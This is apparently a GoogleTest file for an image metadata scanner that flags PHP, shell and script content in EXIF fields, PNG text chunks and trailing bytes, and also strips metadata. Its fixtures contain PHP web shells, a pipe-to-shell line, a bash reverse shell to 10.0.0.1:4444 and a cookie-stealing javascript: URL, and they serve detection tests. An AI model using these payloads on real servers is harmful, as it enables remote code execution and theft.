#include <gtest/gtest.h>
#include <gmock/gmock.h>
#include "test_helpers.hpp"
#include "metadata_scanner.hpp"
#include "metadata_stripper.hpp"
#include "file_reader.hpp"
#include "media_types.hpp"

using ::testing::Contains;
using ::testing::ElementsAre;

namespace {

constexpr uint16_t TAG_DESCRIPTION = 0x010E;
constexpr uint16_t TAG_MAKE = 0x010F;
constexpr uint16_t TAG_MODEL = 0x0110;
constexpr uint16_t TAG_SOFTWARE = 0x0131;
constexpr uint16_t TAG_ARTIST = 0x013B;
constexpr uint16_t TAG_COPYRIGHT = 0x8298;

JpegSpec jpegWithExif(const std::vector<std::pair<uint16_t, std::string>>& tags, bool gps = false) {
    JpegSpec spec;
    spec.exif = buildExif(tags, gps);
    return spec;
}

std::vector<uint8_t> minimalGif() {
    return {'G', 'I', 'F', '8', '9', 'a', 2, 0, 2, 0, 0, 0, 0,
            0x2C, 0, 0, 0, 0, 2, 0, 2, 0, 0, 2, 2, 0x4C, 0x01, 0,
            0x3B};
}

} // namespace

class MetadataScannerTest : public TempDirTest {
protected:
    AccessValidator access;
    FormatIdentifier identifier;
    MetadataScanner scanner{access, identifier};

    ScanResult scanImage(const std::vector<uint8_t>& blob) const {
        ScanResult result;
        scanner.scanImage(blob, policy.metadata, result);
        return result;
    }
};

TEST_F(MetadataScannerTest, CameraJpegIsSafe) {
    ScanResult result = scanImage(buildJpeg(jpegWithExif({
        {TAG_MAKE, "Canon"},
        {TAG_MODEL, "EOS 5D"},
        {TAG_DESCRIPTION, "A fresh photo of the harbour"},
    })));
    EXPECT_TRUE(result.safe());
    EXPECT_EQ(result.mediaType, mime::jpeg);
    EXPECT_EQ(result.meta("Make"), "Canon");
    EXPECT_EQ(result.meta("Model"), "EOS 5D");
    EXPECT_EQ(result.meta("width"), "64");
    EXPECT_EQ(result.meta("height"), "48");
    EXPECT_FALSE(result.flags.hasGps);
}

TEST_F(MetadataScannerTest, ScriptInExifField) {
    ScanResult result = scanImage(buildJpeg(jpegWithExif({{TAG_SOFTWARE, "<?php system($_GET['c']); ?>"}})));
    auto messages = result.threatMessages();
    EXPECT_THAT(messages, Contains("PHP opening tag (<?php) found in image data"));
    EXPECT_THAT(messages, Contains("Suspicious PHP code found in metadata field: Software"));
    EXPECT_EQ(result.threats.front().event, EventType::MetadataThreat);
}

TEST_F(MetadataScannerTest, ShellCommandInExifField) {
    ScanResult result = scanImage(buildJpeg(jpegWithExif({{TAG_ARTIST, "sh  -c 'curl x | sh'"}})));
    EXPECT_THAT(result.threatMessages(), ElementsAre("Suspicious shell command found in metadata field: Artist"));

    result = scanImage(buildJpeg(jpegWithExif({{TAG_ARTIST, "/bin/bash -i"}})));
    EXPECT_THAT(result.threatMessages(), ElementsAre("Suspicious shell command found in metadata field: Artist"));
}

TEST_F(MetadataScannerTest, ScriptUrlInExifField) {
    ScanResult result = scanImage(buildJpeg(jpegWithExif({{TAG_COPYRIGHT, "javascript:alert(document.cookie)"}})));
    EXPECT_THAT(result.threatMessages(), ElementsAre("Suspicious URL protocol found in metadata field: Copyright"));
}

TEST_F(MetadataScannerTest, OnlyConfiguredFieldsAreChecked) {
    auto jpeg = buildJpeg(jpegWithExif({{TAG_MODEL, "eval(payload)"}}));
    EXPECT_TRUE(scanImage(jpeg).safe());

    policy.metadata.scannedFields = {"model"};
    EXPECT_THAT(scanImage(jpeg).threatMessages(),
                ElementsAre("Suspicious PHP code found in metadata field: Model"));
}

TEST_F(MetadataScannerTest, ShortEchoTagInComment) {
    JpegSpec spec;
    spec.comment = "<?= `id` ?>";
    ScanResult result = scanImage(buildJpeg(spec));
    auto messages = result.threatMessages();
    EXPECT_THAT(messages, Contains("PHP short echo tag (<?=) found in image data"));
    EXPECT_THAT(messages, Contains("Suspicious PHP code found in metadata field: Comment"));
}

TEST_F(MetadataScannerTest, GpsIsReportedAndOptionallyBlocked) {
    auto jpeg = buildJpeg(jpegWithExif({{TAG_MAKE, "Pixel"}}, true));
    ScanResult result = scanImage(jpeg);
    EXPECT_TRUE(result.safe());
    EXPECT_TRUE(result.flags.hasGps);

    policy.metadata.blockGps = true;
    result = scanImage(jpeg);
    EXPECT_THAT(result.threatMessages(), ElementsAre("GPS location data detected in image"));
    EXPECT_EQ(result.threats.front().event, EventType::GpsDetected);
}

TEST_F(MetadataScannerTest, TrailingDataThreshold) {
    JpegSpec spec;
    spec.trailing = std::string(100, 'A');
    ScanResult result = scanImage(buildJpeg(spec));
    EXPECT_TRUE(result.safe());
    EXPECT_EQ(result.meta("trailingBytes"), "100");

    spec.trailing = std::string(101, 'A');
    result = scanImage(buildJpeg(spec));
    EXPECT_THAT(result.threatMessages(), ElementsAre("Suspicious trailing data found after image end marker"));
}

TEST_F(MetadataScannerTest, ScriptInShortTrailer) {
    JpegSpec spec;
    spec.trailing = "eval($x);";
    ScanResult result = scanImage(buildJpeg(spec));
    EXPECT_THAT(result.threatMessages(), ElementsAre("PHP code detected in trailing bytes"));
}

TEST_F(MetadataScannerTest, BareFunctionNameInTrailer) {
    JpegSpec spec;
    spec.trailing = "EXEC";
    EXPECT_THAT(scanImage(buildJpeg(spec)).threatMessages(), ElementsAre("PHP code detected in trailing bytes"));

    spec.trailing = "$f='sys'.'tem';system $cmd";
    EXPECT_THAT(scanImage(buildJpeg(spec)).threatMessages(), ElementsAre("PHP code detected in trailing bytes"));

    spec.trailing = "padding";
    EXPECT_TRUE(scanImage(buildJpeg(spec)).safe());
}

TEST_F(MetadataScannerTest, BareFunctionNameInFieldIsText) {
    JpegSpec spec;
    spec.exif = buildExif({{0x0131, "Operating system tools"}}, false);
    EXPECT_TRUE(scanImage(buildJpeg(spec)).safe());
}

TEST_F(MetadataScannerTest, PngTrailerAndTextChunks) {
    PngSpec spec;
    spec.text = {{"Description", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, {"Make", "ignored"}};
    ScanResult result = scanImage(buildPng(spec));
    EXPECT_EQ(result.mediaType, mime::png);
    EXPECT_THAT(result.threatMessages(), ElementsAre("Suspicious shell command found in metadata field: Description"));
    EXPECT_EQ(result.meta("width"), "32");

    spec.text.clear();
    spec.trailing = "<?php echo 1; ?>";
    result = scanImage(buildPng(spec));
    EXPECT_THAT(result.threatMessages(), Contains("PHP code detected in trailing bytes"));
}

TEST_F(MetadataScannerTest, DimensionLimits) {
    policy.metadata.maxWidth = 32;
    policy.metadata.minHeight = 100;
    ScanResult result = scanImage(buildJpeg({}));
    EXPECT_THAT(result.threatMessages(), ElementsAre(
        "Image width must not exceed 32 pixels (current: 64px)",
        "Image height must be at least 100 pixels (current: 48px)"));

    policy.metadata.maxWidth = 64;
    policy.metadata.minHeight = 48;
    EXPECT_TRUE(scanImage(buildJpeg({})).safe());
}

TEST_F(MetadataScannerTest, NotAnImage) {
    EXPECT_THAT(scanImage(bytes("plain text pretending to be a photo")).threatMessages(),
                ElementsAre("Not a valid image file"));
}

TEST_F(MetadataScannerTest, MatchesRasterTypes) {
    EXPECT_TRUE(scanner.match(mime::jpeg, "jpg"));
    EXPECT_TRUE(scanner.match(mime::webp, ""));
    EXPECT_FALSE(scanner.match(mime::svg, "svg"));
    EXPECT_FALSE(scanner.match(mime::pdf, "jpg"));
}

TEST_F(MetadataScannerTest, ScansFile) {
    std::string path = write("holiday.jpg", buildJpeg(jpegWithExif({{TAG_DESCRIPTION, "<?php eval($_POST[1]); ?>"}})));
    ScanResult result = scanner.scan(path, "holiday.jpg", policy);
    EXPECT_EQ(result.scanner, "Metadata");
    EXPECT_TRUE(result.hasThreat("metadata field: ImageDescription"));
}

TEST_F(MetadataScannerTest, StripsJpegMetadata) {
    JpegSpec spec = jpegWithExif({{TAG_MAKE, "Canon"}, {TAG_ARTIST, "someone"}}, true);
    spec.comment = "private note";
    spec.trailing = "appended";
    std::vector<uint8_t> original = buildJpeg(spec);

    std::vector<uint8_t> stripped;
    std::string error;
    ASSERT_TRUE(stripMetadata(original, stripped, error)) << error;
    EXPECT_LT(stripped.size(), original.size());
    ASSERT_GE(stripped.size(), 4u);
    EXPECT_EQ(stripped[0], 0xFF);
    EXPECT_EQ(stripped[1], 0xD8);
    EXPECT_EQ(stripped[stripped.size() - 2], 0xFF);
    EXPECT_EQ(stripped.back(), 0xD9);

    ImageInfo info = parseImage(stripped);
    ASSERT_TRUE(info.valid);
    EXPECT_TRUE(info.fields.empty());
    EXPECT_FALSE(info.hasGps());
    EXPECT_EQ(info.width, 64u);
    EXPECT_EQ(info.height, 48u);
}

TEST_F(MetadataScannerTest, StripsPngTextChunks) {
    PngSpec spec;
    spec.text = {{"Comment", "hello"}, {"Author", "someone"}};
    spec.trailing = "junk";
    std::vector<uint8_t> original = buildPng(spec);

    std::vector<uint8_t> stripped;
    std::string error;
    ASSERT_TRUE(stripMetadata(original, stripped, error)) << error;
    ImageInfo info = parseImage(stripped);
    ASSERT_TRUE(info.valid);
    EXPECT_TRUE(info.fields.empty());
    EXPECT_EQ(info.endOffset, stripped.size());
    EXPECT_EQ(stripped.size(), buildPng({}).size());
}

TEST_F(MetadataScannerTest, StripRejectsUnsupportedInput) {
    std::vector<uint8_t> out;
    std::string error;
    EXPECT_FALSE(stripMetadata(minimalGif(), out, error));
    EXPECT_EQ(error, "Metadata stripping is not supported for GIF");

    EXPECT_FALSE(stripMetadata(bytes("nope"), out, error));
    EXPECT_EQ(error, "Not a valid image file");
}

TEST_F(MetadataScannerTest, StripFileWritesCopy) {
    std::string in = write("in.jpg", buildJpeg(jpegWithExif({{TAG_MAKE, "Canon"}})));
    std::string out = (dir / "out.jpg").string();
    std::string error;
    ASSERT_TRUE(stripMetadataFile(access, in, out, policy, error)) << error;
    EXPECT_TRUE(parseImage(readFile(out)).fields.empty());

    fs::create_directories(dir / "allowed");
    policy.access.allowedRoots = {(dir / "allowed").string()};
    EXPECT_FALSE(stripMetadataFile(access, in, out, policy, error));
    EXPECT_EQ(error, "File path outside allowed directories");
}
